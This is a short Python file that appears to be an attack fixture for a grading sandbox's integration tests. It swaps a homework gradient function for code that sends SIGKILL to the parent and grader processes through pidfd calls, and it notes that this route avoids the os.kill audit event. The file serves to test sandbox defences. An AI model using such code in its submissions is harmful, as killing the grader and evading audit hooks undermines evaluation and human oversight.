"""Attack `pidfd_kill_parent`: the hw2_affine reference with ComputeGradients replaced by the attack.

os.pidfd_open + signal.pidfd_send_signal(SIGKILL): pure Python, no os.kill
audit event, aimed at the parent (the grader, outside namespaces) and at the
grader's pid as the test knows it.

Graded by tests/integration/test_attacks.py, which fills in the @...@ placeholders.
"""
@HONEST@
@TOOLKIT@
def wrong_answer(L):
    """Right shapes, wrong values: what the attacked function returns when the attack fails."""
    import numpy as np

    return [(np.zeros(np.shape(W)), np.zeros((np.shape(W)[0], 1))) for W, _ in L]

import signal

GRADER_PID = int("@GRADER_PID@")


def ComputeGradients(L, x, z):
    for pid in (os.getppid(), GRADER_PID):
        if pid <= 0 or (AS_ROOT and pid in PROTECTED):
            continue
        try:
            fd = os.pidfd_open(pid)
            signal.pidfd_send_signal(fd, signal.SIGKILL)
            say("pidfd SIGKILL", pid, "sent")
        except OSError as exc:
            say("pidfd SIGKILL", pid, exc.strerror or exc)
    return None
